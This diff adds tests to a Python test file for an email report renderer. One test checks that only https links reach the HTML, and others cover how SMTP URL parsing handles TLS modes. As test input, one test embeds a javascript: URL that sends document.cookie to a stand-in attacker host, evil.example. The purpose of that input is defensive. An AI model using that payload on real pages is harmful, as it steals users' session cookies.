@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import re
+
+import msgspec
+
 from processors.report.mailer import build_message, parse_smtp_url
 from processors.report.render import TOP_PAGES, render_report
 from schema.derived import MindmapBuilt, MindmapNode, SessionClosed, SessionPage
@@ -61,6 +65,25 @@ def test_report_shows_duration_top_pages_and_the_map() -> None:
     assert "Open in MindHit: https://mindhit.example/sessions/s-42" in report.text
 
 
+def test_only_web_urls_become_links() -> None:
+    closed, built = _session(pages=2)
+    bad = "javascript:fetch('//evil.example/?'+document.cookie)"
+    page = msgspec.structs.replace(closed.pages[0], url=bad, title="Click me")
+    closed = msgspec.structs.replace(closed, pages=[page, closed.pages[1]])
+    leaf = MindmapNode(label="Data page", weight_ms=1, url="data:text/html,<h1>x</h1>")
+    branch = msgspec.structs.replace(
+        built.root.children[0], children=[*built.root.children[0].children, leaf]
+    )
+    built = msgspec.structs.replace(
+        built, root=msgspec.structs.replace(built.root, children=[branch])
+    )
+    report = render_report(closed, built, public_url="https://mindhit.example")
+    hrefs = re.findall(r'href="([^"]*)"', report.html)
+    assert hrefs and all(h.startswith("https://") for h in hrefs), hrefs
+    assert "Click me" in report.html and "Data page" in report.html
+    assert "<javascript:" not in report.text and "(not a web page: javascript:" in report.text
+
+
 def test_page_titles_and_labels_are_escaped() -> None:
     closed, built = _session()
     report = render_report(closed, built, public_url="http://x")
@@ -84,13 +107,15 @@ def test_message_has_text_and_html_alternatives() -> None:
 
 
 def test_smtp_urls_parse_with_login_and_tls() -> None:
-    plain = parse_smtp_url("smtp://mail.example:2525")
-    assert (plain.host, plain.port, plain.implicit_tls, plain.username) == (
+    starttls = parse_smtp_url("smtp://mail.example:2525")
+    assert (starttls.host, starttls.port, starttls.tls, starttls.username) == (
         "mail.example",
         2525,
-        False,
+        "starttls",
         None,
     )
+    plain = parse_smtp_url("smtp+insecure://relay.local")
+    assert (plain.port, plain.tls, plain.implicit_tls) == (25, "none", False)
     secure = parse_smtp_url("smtps://ann%40x:p%3Ass@mail.example")
     assert (secure.port, secure.implicit_tls, secure.username, secure.password) == (
         465,
